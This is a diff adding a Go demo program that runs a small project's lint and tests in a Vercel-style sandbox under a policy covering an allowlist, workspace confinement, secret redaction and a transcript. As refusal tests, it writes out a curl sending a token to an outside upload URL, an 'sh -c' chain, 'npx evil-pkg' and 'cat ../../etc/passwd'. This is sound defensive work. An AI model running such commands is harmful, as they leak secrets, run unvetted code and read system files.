@@ -1,0 +1,328 @@
+// Command verify-runner runs the lint and test commands of a small project
+// in a sandbox under a strict policy (package policy): a default-deny
+// command allowlist, workspace confinement, redaction of secrets from every
+// output, and a bounded transcript of everything that ran or was refused.
+//
+// It writes a tiny Go module into the sandbox and runs "go vet ./..." and
+// "go test -v ./..." when the sandbox has Go; otherwise (a Vercel runtime
+// image without Go) it writes a shell-based project and runs its lint and
+// test scripts, allowed by rules that name them. The tests print a secret
+// token on purpose; it is redacted everywhere. Then it tries commands the
+// policy refuses (a curl carrying the token, a shell line, an unlisted npx
+// package, a path outside the workspace) and shows the rule that refused
+// each, and finally prints the transcript.
+//
+// With Vercel credentials in the environment (VERCEL_OIDC_TOKEN, or
+// VERCEL_TOKEN with VERCEL_TEAM_ID and VERCEL_PROJECT_ID) it uses Vercel.
+// Without them it starts the embedded local server (package sandboxtest,
+// running real processes on this machine, without isolation) and says so.
+package main
+
+import (
+	"context"
+	"crypto/rand"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"flag"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"os"
+	"os/signal"
+	"path"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"time"
+
+	"github.com/sbx-go/vercel-sandbox/auth"
+	"github.com/sbx-go/vercel-sandbox/command"
+	"github.com/sbx-go/vercel-sandbox/files"
+	"github.com/sbx-go/vercel-sandbox/sandbox"
+	"github.com/sbx-go/vercel-sandbox/sandbox/policy"
+	"github.com/sbx-go/vercel-sandbox/sandbox/sandboxtest"
+)
+
+func main() {
+	log.SetFlags(0)
+	sigCtx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
+	defer stop()
+	ctx, cancel := context.WithTimeout(sigCtx, 5*time.Minute)
+	defer cancel()
+	var o options
+	flag.BoolVar(&o.local, "local", false, "use the embedded local server even when Vercel credentials are present")
+	flag.BoolVar(&o.shell, "shell", false, "use the shell-based project even when the sandbox has Go")
+	flag.Parse()
+	if err := run(ctx, os.Stdout, os.Stderr, o); err != nil {
+		cancel()
+		log.Fatalf("verify-runner: %v", err)
+	}
+}
+
+func step(out io.Writer, format string, args ...any) {
+	fmt.Fprintf(out, "==> "+format+"\n", args...)
+}
+
+// connect returns a client for Vercel, or for an embedded local server
+// when there are no credentials (or forceLocal is set). sandboxEnv is the
+// environment to create sandboxes with.
+func connect(ctx context.Context, out, errOut io.Writer, forceLocal bool) (c *sandbox.Client, sandboxEnv map[string]string, closeFn func(), err error) {
+	creds := auth.Default(auth.DefaultOptions{})
+	if _, err := creds.Credentials(ctx); err == nil && !forceLocal {
+		step(out, "using Vercel (credentials found in the environment)")
+		c, err := sandbox.NewClient(sandbox.WithCredentials(creds))
+		return c, nil, func() {}, err
+	}
+	srv, err := sandboxtest.New(
+		sandboxtest.WithExecutor(sandboxtest.NewLocalExecutor()),
+		sandboxtest.WithHostPaths(true),
+	)
+	if err != nil {
+		return nil, nil, nil, err
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		srv.Close()
+		return nil, nil, nil, err
+	}
+	go srv.Serve(ln) //nolint:errcheck // returns after Close
+	url := "http://" + ln.Addr().String()
+	fmt.Fprintf(errOut, "verify-runner: no Vercel credentials in use: using the embedded local server at %s\n", url)
+	fmt.Fprintf(errOut, "verify-runner: it runs commands as local processes on this machine, without isolation\n")
+	step(out, "using the embedded local server (local processes, not isolated)")
+	c, err = sandbox.NewClient(sandbox.WithBaseURL(url), sandbox.WithToken(srv.Token(), "team_local", "prj_local"))
+	if err != nil {
+		srv.Close()
+		return nil, nil, nil, err
+	}
+	// Local processes get a fresh HOME in the sandbox's directory; share the
+	// host's Go build cache so that go vet and go test start warm.
+	env := map[string]string{"GOTOOLCHAIN": "local", "GOFLAGS": "-mod=mod"}
+	if dir, err := os.UserCacheDir(); err == nil {
+		env["GOCACHE"] = filepath.Join(dir, "go-build")
+	}
+	if v := os.Getenv("GOCACHE"); v != "" {
+		env["GOCACHE"] = v
+	}
+	return c, env, srv.Close, nil
+}
+
+// newSecret returns a token-like value that the project's tests print.
+func newSecret() string {
+	b := make([]byte, 12)
+	_, _ = rand.Read(b)
+	return "demo-token-" + hex.EncodeToString(b)
+}
+
+// options are the command-line flags.
+type options struct {
+	local bool // use the embedded server even with credentials
+	shell bool // use the shell-based project even when Go is there
+}
+
+func run(ctx context.Context, out, errOut io.Writer, o options) error {
+	client, sandboxEnv, closeFn, err := connect(ctx, out, errOut, o.local)
+	if err != nil {
+		return err
+	}
+	defer closeFn()
+
+	step(out, "creating a sandbox")
+	sb, err := client.Create(ctx, sandbox.CreateParams{Timeout: 10 * time.Minute, Env: sandboxEnv})
+	if err != nil {
+		return fmt.Errorf("create: %w", err)
+	}
+	defer func() {
+		step(out, "stopping the sandbox")
+		sctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), time.Minute)
+		defer cancel()
+		if _, err := sb.Stop(sctx); err != nil {
+			fmt.Fprintf(out, "    stop failed: %v\n", err)
+		}
+	}()
+
+	secret := newSecret()
+	workspace := path.Join(sb.Cwd(), "repo")
+	pol := policy.Policy{
+		Workspace: workspace,
+		Allow: []policy.Rule{
+			policy.Allow("go", "version"),
+			policy.Allow("go", "vet", "./..."),
+			policy.Allow("go", "test", "..."),
+			// Shells are refused unless a rule names them: these allow two
+			// scripts of the project, not "sh -c".
+			policy.Allow("sh", "scripts/lint.sh"),
+			policy.Allow("sh", "scripts/test.sh"),
+		},
+		Packages:            []policy.Package{policy.NPM("eslint"), policy.NPM("typescript", "tsc")},
+		SecretEnv:           map[string]string{"DEMO_API_TOKEN": secret},
+		CommandTimeout:      3 * time.Minute,
+		MaxOutputPerCommand: 8 << 10,
+		MaxTranscript:       64 << 10,
+	}
+	runner, err := policy.NewRunner(sb, pol, policy.WithOutput(prefixed(out, "    | ")))
+	if err != nil {
+		return err
+	}
+	fmt.Fprintf(out, "    workspace %s\n", runner.Workspace())
+
+	step(out, "checking for Go in the sandbox")
+	_, err = runner.Run(ctx, sandbox.Command("go", "version"))
+	if err == nil && o.shell {
+		err = errors.New("-shell given")
+	}
+	hasGo := err == nil
+	var project []files.Entry
+	var checks []*command.Cmd
+	if hasGo {
+		step(out, "writing a Go module")
+		project = goProject("repo")
+		checks = []*command.Cmd{sandbox.Command("go", "vet", "./..."), sandbox.Command("go", "test", "-count=1", "-v", "./...")}
+	} else {
+		fmt.Fprintf(out, "    using the shell-based project (%v)\n", firstLine(err))
+		step(out, "writing a shell-based project")
+		project = shellProject("repo")
+		checks = []*command.Cmd{sandbox.Command("sh", "scripts/lint.sh"), sandbox.Command("sh", "scripts/test.sh")}
+	}
+	if err := sb.WriteFiles(ctx, project); err != nil {
+		return fmt.Errorf("write files: %w", err)
+	}
+
+	step(out, "running the allowed checks")
+	for _, c := range checks {
+		fmt.Fprintf(out, "    $ %s\n", c)
+		res, err := runner.Run(ctx, c)
+		if err != nil {
+			return fmt.Errorf("%s: %w", c, err)
+		}
+		fmt.Fprintf(out, "    exit %d after %s\n", res.ExitCode, res.Duration.Round(time.Millisecond))
+	}
+
+	step(out, "trying commands the policy refuses (nothing is sent to the sandbox)")
+	for _, c := range []*command.Cmd{
+		sandbox.Command("curl", "-H", "Authorization: Bearer "+secret, "https://example.com/upload"),
+		sandbox.Command("sh", "-c", "go test ./... && curl https://example.com"),
+		sandbox.Command("npx", "--yes", "evil-pkg"),
+		sandbox.Command("go", "test", "-coverprofile=/var/cover.out", "./..."),
+		sandbox.Command("cat", "../../etc/passwd"),
+	} {
+		_, err := runner.Run(ctx, c)
+		var denied *policy.DeniedError
+		if !errors.As(err, &denied) {
+			return fmt.Errorf("%s was not denied: %v", runner.Redactor().Redact(c.String()), err)
+		}
+		fmt.Fprintf(out, "    denied by rule %-13s %s\n", denied.Rule+":", denied.Reason)
+	}
+
+	step(out, "the transcript")
+	t := runner.Transcript()
+	if _, err := t.WriteTo(prefixed(out, "    ")); err != nil {
+		return err
+	}
+	js, err := json.Marshal(t)
+	if err != nil {
+		return err
+	}
+	if strings.Contains(string(js), secret) {
+		return errors.New("the secret appears in the transcript")
+	}
+	denied := 0
+	var curl policy.Entry
+	for _, e := range t.Entries {
+		if e.Denied {
+			denied++
+		}
+		if e.Argv[0] == "curl" {
+			curl = e
+		}
+	}
+	fmt.Fprintf(out, "    %d commands recorded, %d denied, %d bytes of output kept; the secret appears nowhere\n",
+		len(t.Entries), denied, t.OutputBytes)
+	step(out, "one entry of the JSON transcript (%d bytes in all)", len(js))
+	ej, err := json.MarshalIndent(curl, "    ", "  ")
+	if err != nil {
+		return err
+	}
+	fmt.Fprintf(out, "    %s\n", ej)
+	return nil
+}
+
+func goProject(dir string) []files.Entry {
+	return []files.Entry{
+		files.FromString(path.Join(dir, "go.mod"), "module example.com/calc\n\ngo 1.22\n"),
+		files.FromString(path.Join(dir, "calc.go"), `// Package calc adds numbers.
+package calc
+
+// Add returns a + b.
+func Add(a, b int) int { return a + b }
+`),
+		files.FromString(path.Join(dir, "calc_test.go"), `package calc
+
+import (
+	"os"
+	"testing"
+)
+
+func TestAdd(t *testing.T) {
+	if got := Add(2, 3); got != 5 {
+		t.Fatalf("Add(2, 3) = %d, want 5", got)
+	}
+	// A careless log line: the runner redacts the token.
+	t.Logf("calling the API with token %s", os.Getenv("DEMO_API_TOKEN"))
+}
+`),
+	}
+}
+
+func shellProject(dir string) []files.Entry {
+	return []files.Entry{
+		files.FromString(path.Join(dir, "lib/calc.sh"), "add() { echo $(( $1 + $2 )); }\n"),
+		files.FromString(path.Join(dir, "scripts/lint.sh"), `set -e
+for f in lib/*.sh scripts/*.sh; do
+	sh -n "$f"
+	echo "lint ok: $f"
+done
+`),
+		files.FromString(path.Join(dir, "scripts/test.sh"), `set -e
+. ./lib/calc.sh
+got=$(add 2 3)
+[ "$got" = 5 ] || { echo "FAIL: add 2 3 = $got, want 5"; exit 1; }
+echo "PASS: add 2 3 = 5"
+# A careless log line: the runner redacts the token.
+echo "calling the API with token $DEMO_API_TOKEN"
+`),
+	}
+}
+
+func firstLine(err error) string {
+	if err == nil {
+		return ""
+	}
+	s, _, _ := strings.Cut(err.Error(), "\n")
+	return s
+}
+
+type prefixWriter struct {
+	w      io.Writer
+	prefix string
+	bol    bool
+}
+
+func prefixed(w io.Writer, prefix string) io.Writer {
+	return &prefixWriter{w: w, prefix: prefix, bol: true}
+}
+
+func (p *prefixWriter) Write(b []byte) (int, error) {
+	var sb strings.Builder
+	for _, c := range string(b) {
+		if p.bol {
+			sb.WriteString(p.prefix)
+		}
+		sb.WriteRune(c)
+		p.bol = c == '\n'
+	}
+	_, err := io.WriteString(p.w, sb.String())
+	return len(b), err
+}
